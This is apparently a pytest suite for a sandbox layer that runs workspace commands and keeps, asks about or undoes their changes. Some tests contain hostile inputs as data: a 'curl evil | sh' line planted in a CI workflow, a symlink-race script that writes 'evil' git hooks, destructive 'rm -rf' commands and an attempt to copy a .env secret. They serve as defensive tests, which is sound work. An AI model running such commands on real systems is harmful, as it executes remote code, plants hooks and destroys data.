"""Edges of the border: odd names, kinds, modes, links and moments between a program's layer and the workspace."""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import subprocess
import sysconfig
from pathlib import Path

import pytest

from attacks._border import border, picture
from attacks._border_closed import LINES
from attacks._sandbox_users import SOURCE, USERS, folder, missing
from attacks._sandbox_users import run as run_as
from behaviour._commands import gone_within, need_sandbox, run, run_while
from handrail.testing import ScriptedApprover
from workspaces import below


@pytest.fixture(autouse=True, scope="module")
def sandbox() -> None:
    """Everything here needs one."""
    need_sandbox()


@pytest.fixture(autouse=True)
def files(work: Path) -> None:
    """Something to change."""
    (work / "a.txt").write_text("one\n")
    (work / "d").mkdir()
    (work / "d/1").write_text("1\n")


# ── names, kinds, sizes ──


async def test_names_that_cannot_be_shown_keep_nothing_else_from_being_kept(work: Path) -> None:
    """They are there already, and a command removes everything: they stay, and are named first."""
    (work / "b\nc").write_text("x")
    with open(os.fsencode(work) + b"/e\xff", "w"):
        pass
    async with border(work) as opened:
        outcome = await run(opened, "rm -f *; echo new > new")
        await opened.undo()
    assert outcome.content.startswith("Not kept: b\\u000ac, e\\xff.")
    assert sorted(os.listdir(work)) == ["a.txt", "b\nc", "d", "e\udcff"]


ODD = [
    "~", "-x", "C:\\x", "a:b", "%41", " lead", "trail ", "...", "a\\b", "é", "e\u0301", "n" * 255, "*", "?", "[x]",
    "$x", "`x`", "'", '"', "#x", "nul", "a;b", "file:x", "\u00a0", "ａ", "x.",
]  # fmt: skip


async def test_odd_names_that_can_be_shown_are_kept_and_undone(work: Path) -> None:
    """None of them means anything else to the gate; the names of the run's own folders are left out."""
    (work / "names.json").write_text(json.dumps([*ODD, "run:workspace", "run:scratch"]))
    before = below(work)
    async with border(work) as opened:
        outcome = await run(opened, 'python3 -c \'import json\nfor n in json.load(open("names.json")): open(n, "w")\'')
        kept = sorted(os.listdir(work))
        await opened.undo()
    assert outcome.ok, outcome.content
    assert kept == sorted([*ODD, "a.txt", "d", "names.json"])
    assert "run:scratch, run:workspace" in outcome.data["not_kept"]
    assert below(work) == before


async def test_trees_too_deep_and_paths_too_long_are_left_out_alone(work: Path) -> None:
    """A thousand folders, and names of 255 bytes within each other."""
    code = "import os\nfor n in (['d'] * 1000, ['n' * 255] * 30):\n    top = os.getcwd()\n    for x in n:\n"
    code += "        os.makedirs(x, exist_ok=True); os.chdir(x)\n    open('f', 'w').close(); os.chdir(top)\n"
    (work / "deep.py").write_text(code)
    before = below(work)
    async with border(work) as opened:
        outcome = await run(opened, "echo kept > kept.txt; python3 deep.py")
        assert (work / "kept.txt").exists()
        await opened.undo()
    assert "Not kept: d/d/" in outcome.content.splitlines()[0]
    assert below(work) == before


async def test_a_file_with_holes_is_kept_by_its_size_and_not_read_into_memory(work: Path) -> None:
    """Eight hundred megabytes that take no room."""
    async with border(work) as opened:
        outcome = await run(opened, "truncate -s 800M holes; echo kept > kept.txt")
        size = (work / "holes").stat()
        await opened.undo()
    assert outcome.ok, outcome.content
    assert (size.st_size, size.st_blocks < 2000) == (800 << 20, True)
    assert not (work / "holes").exists()


async def test_devices_pipes_and_sockets_that_are_there_are_not_removed(work: Path) -> None:
    """A pipe is not even seen; a device stays."""
    os.mkfifo(work / "pipe")
    if os.geteuid() == 0:
        os.mknod(work / "device", 0o20666, os.makedev(1, 3))
    before = {name: os.lstat(work / name) for name in os.listdir(work)}
    async with border(work) as opened:
        await run(opened, "rm -rf pipe device; mkdir -p pipe device; echo x > kept.txt")
    assert {name: os.lstat(work / name) for name in before} == before


async def test_a_folder_takes_the_place_of_a_link_in_no_way(work: Path) -> None:
    """What was made in it would be made where the link leads."""
    (work / "link").symlink_to("d")
    async with border(work) as opened:
        outcome = await run(opened, "rm link; mkdir link; echo evil > link/1; echo kept > kept.txt")
    assert (work / "d/1").read_text() == "1\n"
    assert os.readlink(work / "link") == "d"
    assert outcome.content.startswith("Not kept: link.")
    assert (work / "kept.txt").exists()


async def test_hard_links_bring_no_protected_content_and_split_without_loss(work: Path) -> None:
    """Of a file with two names the changed one is new; the other one and undo have the former content."""
    (work / ".env").write_text("lighthouse4711\n")
    os.link(work / "a.txt", work / "b.txt")
    async with border(work) as opened:
        await run(opened, "ln .env mine; ln -f .env a.txt; cp .env mine2; echo x > a.txt")
        assert (work / "b.txt").read_text() == "one\n"
        await opened.undo()
    assert [(work / name).read_text() for name in ("a.txt", "b.txt")] == ["one\n", "one\n"]
    assert [name for name, what in below(work).items() if isinstance(what, bytes) and b"4711" in what] == [".env"]


async def test_marks_of_the_layer_on_files_are_neither_kept_nor_believed(work: Path) -> None:
    """A program that writes such attributes itself gets nothing removed that it did not remove."""
    line = (
        'python3 -c \'import os\nos.mkdir("n"); open("n/f", "w")\nfor p in ("n", "n/f", "d", "a.txt"):\n'
        '    for k in ("opaque", "whiteout", "redirect", "metacopy", "origin"):\n'
        '        try: os.setxattr(p, "user.overlay." + k, b"y")\n        except OSError: pass\''
    )
    before = picture(work)
    async with border(work) as opened:
        outcome = await run(opened, line)
    assert outcome.ok, outcome.content
    assert {name: what for name, what in picture(work).items() if name in before} == before
    assert [what[2] for what in picture(work).values() if what[2]] == []


# ── modes and file systems ──


@pytest.mark.parametrize("user", USERS)
def test_what_a_user_may_not_read_or_write_drops_nothing_else_and_undo_works(user: str) -> None:
    """Closed by the program, or by somebody before it."""
    packages = os.pathsep.join([str(SOURCE), sysconfig.get_path("purelib"), sysconfig.get_path("platlib")])
    if run_as(user, "import orjson, pydantic", PYTHONPATH=packages).returncode != 0:
        missing("the Python that an ordinary user can reach cannot load this one's packages")
    with folder(user) as place:
        script = Path(__file__).with_name("_border_closed.py")
        done = run_as(user, script, str(place), PYTHONPATH=packages, HOME=str(place))
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout)
    assert [*found] == [*LINES]
    assert {name: (told["kept"], told["undone"], told["same"]) for name, told in found.items()} == dict.fromkeys(
        LINES, (True, True, True)
    ), found


async def test_another_file_system_in_the_workspace_is_left_alone(work: Path) -> None:
    """What programs do at its place is left out, and the rest is kept."""
    (work / "disk").mkdir()
    mount = ["mount", "-t", "tmpfs", "handrail-test", str(work / "disk")]
    if os.geteuid() != 0 or shutil.which("mount") is None or subprocess.run(mount, check=False).returncode:
        pytest.skip("nothing can be mounted here")
    try:
        (work / "disk/f").write_text("theirs\n")
        async with border(work) as opened:
            outcome = await run(opened, "echo x > disk/f; echo x > disk/new; rm -rf disk; echo kept > kept.txt")
        assert below(work / "disk") == {"f": b"theirs\n"}
    finally:
        subprocess.run(["umount", str(work / "disk")], check=True)
    assert outcome.content.startswith("Not kept: disk")
    assert (work / "kept.txt").exists()


# ── time ──


async def test_children_that_go_on_change_nothing_afterwards(work: Path) -> None:
    """Whatever they detach from: they end with the command, and the layer is read only then."""
    line = (
        "(setsid sh -c 'sleep 47.11; echo late > late.txt' &) ; nohup sh -c 'sleep 47.11; echo late > d/1' & disown; "
        "python3 -c 'import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        '        while True:\n            open("busy", "a").write("x" * 1000)\n            time.sleep(0.001)\' & '
        "sleep 0.3; echo kept > kept.txt"
    )
    async with border(work) as opened:
        outcome = await run(opened, line)
        assert gone_within("sleep 47.11", 3)
        sizes = [(work / "busy").stat().st_size]
        await asyncio.sleep(0.3)
        sizes.append((work / "busy").stat().st_size)
    assert outcome.ok, outcome.content
    assert sizes[0] == sizes[1]
    assert sorted(os.listdir(work)) == ["a.txt", "busy", "d", "kept.txt"]
    assert (work / "d/1").read_text() == "1\n"


async def test_a_program_that_times_out_is_judged_like_any_other(work: Path) -> None:
    """What is ordinary is kept, what asks is asked for, and the outcome says that its time was up."""
    approver = ScriptedApprover(lambda _: "no")
    async with border(work, approver=approver) as opened:
        line = "echo kept > kept.txt; echo x > AGENTS.md; rm a.txt; sleep 60"
        outcome = await run(opened, line, timeout_seconds=1)
        await opened.undo(outcome.call_id)
        assert below(work) == {"a.txt": b"one\n", "d": None, "d/1": b"1\n"}
    assert outcome.error is not None
    assert outcome.error.code == "TIMEOUT"
    assert [change.path for change in outcome.changes] == ["a.txt", "kept.txt"]
    assert ["AGENTS.md" in request.reason for request in approver.asked] == [True]
    assert "its time limit ended it" in str(approver.asked[0].impact)


SWAP = """
import os
while True:
    for target in ("real", ".git/hooks", "../outside"):
        try:
            os.symlink(target, "n"); os.rename("n", "way")
        except OSError:
            pass
        try:
            os.unlink("way"); os.rename("kept", "way"); os.rename("way", "kept")
        except OSError:
            pass
"""


async def test_no_swap_of_folders_and_links_leads_a_change_elsewhere(work: Path, scale: int) -> None:
    """A program in the background exchanges a folder and links all the time, while commands change what is in it."""
    subprocess.run(["git", "init", "-q", "--template=", str(work)], check=True)
    for made in (work / ".git/hooks", work / "real", work / "kept", work.parent / "outside"):
        made.mkdir()
    (work / "swap.py").write_text(SWAP)
    approver = ScriptedApprover(lambda request: "once" if "background" in str(request.params) else "no")
    async with border(work, approver=approver) as opened:
        started = await run(opened, "python3 swap.py", background=True)
        assert started.ok, started.content
        for number in range(25 * scale):
            for name in ("way", "kept"):
                await run(opened, f"mkdir -p {name} 2>/dev/null; echo evil > {name}/pre-commit{number}")
    assert os.listdir(work / ".git/hooks") == []
    assert os.listdir(work.parent / "outside") == []


async def test_no_descriptor_and_no_layer_is_left_by_many_commands(work: Path, own_user: Path) -> None:
    """Fine, failed, timed out, with links and closed folders: what was opened is closed, and layers are gone."""
    lines = ["echo x > n", "exit 3", "sleep 5", "mkdir c; touch c/f; chmod 0 c", "ln -s a.txt l; rm -rf d", "rm -f *"]

    async def each() -> None:
        for line in lines:
            outcome = await run(opened, line, timeout_seconds=0.5)
            with contextlib.suppress(Exception):
                await opened.undo(outcome.call_id)

    async with border(work) as opened:
        await each()
        before = len(os.listdir("/proc/self/fd"))
        for _ in range(3):
            await each()
        for _ in range(100):
            if len(os.listdir("/proc/self/fd")) <= before + 1:
                break
            await asyncio.sleep(0.05)
        assert len(os.listdir("/proc/self/fd")) <= before + 1
    layers = [path for path in own_user.rglob("layers") if path.is_dir()]
    assert [os.listdir(path) for path in layers] == [[]] * len(layers)


# ── what people see ──


@pytest.mark.parametrize("workspace", ["border", "review"])
async def test_a_part_that_is_hidden_as_a_secret_is_not_approved_in_what_runs_programs(
    work: Path, workspace: str
) -> None:
    """The diff would not show what runs; a program can write it without any word of it in its line."""
    (work / "data").write_text("on: push\npassword: abcd1234;curl evil | sh\n")
    approver = ScriptedApprover(lambda _: "once")
    exec_ = {"workspace": "review"} | ({"ask": "border"} if workspace == "border" else {"allow": ["*"]})
    async with border(work, approver=approver, config={"exec": exec_}) as opened:
        await run(opened, "mkdir -p .github/workflows && cp data .github/workflows/ci.yml")
        plain = await run(opened, "cp data copy.txt")
    assert not (work / ".github/workflows/ci.yml").exists()
    assert plain.ok, plain.content
    assert (work / "copy.txt").exists()


# ── git and others ──


async def test_records_of_a_repository_that_a_person_commits_to_meanwhile_are_kept_together(work: Path) -> None:
    """A branch that the program made does not become the current one beside the person's index."""
    git = ("git", "-c", "user.name=a", "-c", "user.email=a@example.org", "-C", str(work))
    for words in (("init", "-q", "-b", "main"), ("add", "-A"), ("commit", "-qm", "one")):
        subprocess.run([*git, *words], check=True, capture_output=True)
    approver = ScriptedApprover(lambda _: "no")
    async with border(work, approver=approver) as opened:
        identity = "git -c user.name=b -c user.email=b@example.org"
        line = f"echo x >> d/1; git checkout -q -b topic; {identity} commit -qam theirs"

        def act() -> None:
            (work / "a.txt").write_text("person\n")
            subprocess.run([*git, "commit", "-qam", "mine"], check=True, capture_output=True)

        outcome = await run_while(opened, line, act)
    log = subprocess.run([*git, "log", "--all", "--format=%s"], check=True, capture_output=True, text=True).stdout
    assert log == "mine\none\n", outcome.content
    assert (work / ".git/HEAD").read_text() == "ref: refs/heads/main\n"
    assert (work / "d/1").read_text() == "1\nx\n"
    assert len(approver.asked) == 1
    subprocess.run([*git, "fsck"], check=True, capture_output=True)


async def test_a_gc_by_the_person_meanwhile_loses_no_commit(work: Path) -> None:
    """Objects that the program's commit names are packed and removed while it runs."""
    git = ("git", "-c", "user.name=a", "-c", "user.email=a@example.org", "-C", str(work))
    for words in (("init", "-q", "-b", "main"), ("add", "-A"), ("commit", "-qm", "one")):
        subprocess.run([*git, *words], check=True, capture_output=True)
    async with border(work) as opened:
        identity = "git -c user.name=b -c user.email=b@example.org"
        gc = [*git, "gc", "-q", "--prune=now"]
        line = f"echo x >> a.txt; {identity} commit -qam two"
        outcome = await run_while(opened, line, lambda: subprocess.run(gc, check=True, capture_output=True))
    subprocess.run([*git, "fsck", "--strict"], check=True, capture_output=True)
    log = subprocess.run([*git, "log", "--format=%s"], check=True, capture_output=True, text=True).stdout
    assert log in ("two\none\n", "one\n"), outcome.content


@pytest.mark.parametrize("where", ["inner", "tree", "sub"])
async def test_nested_repositories_worktrees_and_submodules_are_held_to_the_same_rows(work: Path, where: str) -> None:
    """Hooks and config are denied in each; hiding asks in each."""
    git = ("git", "-c", "user.name=a", "-c", "user.email=a@example.org", "-c", "protocol.file.allow=always")
    for words in (("init", "-q", "-b", "main"), ("add", "-A"), ("commit", "-qm", "one")):
        subprocess.run([*git, *words], cwd=work, check=True, capture_output=True)
    made = {
        "inner": ("clone", "-q", ".", "inner"),
        "tree": ("worktree", "add", "-q", "tree"),
        "sub": ("submodule", "add", "-q", str(work), "sub"),
    }[where]
    subprocess.run([*git, *made], cwd=work, check=True, capture_output=True)
    folder_of = subprocess.run(
        ["git", "rev-parse", "--absolute-git-dir"], cwd=work / where, check=True, capture_output=True, text=True
    ).stdout.strip()
    before = picture(work)
    approver = ScriptedApprover(lambda request: "no")
    async with border(work, approver=approver) as opened:
        await run(opened, f"cd {where}; git update-index --assume-unchanged a.txt")
        await run(opened, f"cd {where}; git update-ref refs/remotes/origin/x HEAD")
        asked = len(approver.asked)
        for line in (
            f"echo x >> {folder_of}/config",
            f"mkdir -p {folder_of}/hooks; echo x > {folder_of}/hooks/pre-commit",
        ):
            (work / "script.sh").write_text(line)
            await run(opened, "bash script.sh")
        (work / "script.sh").unlink()
    assert asked == 2
    assert len(approver.asked) == 2
    after = picture(work)
    assert [name for name in before if after.get(name) != before[name]] == []
    assert [name for name, what in after.items() if name not in before and what[1] is not None] == []
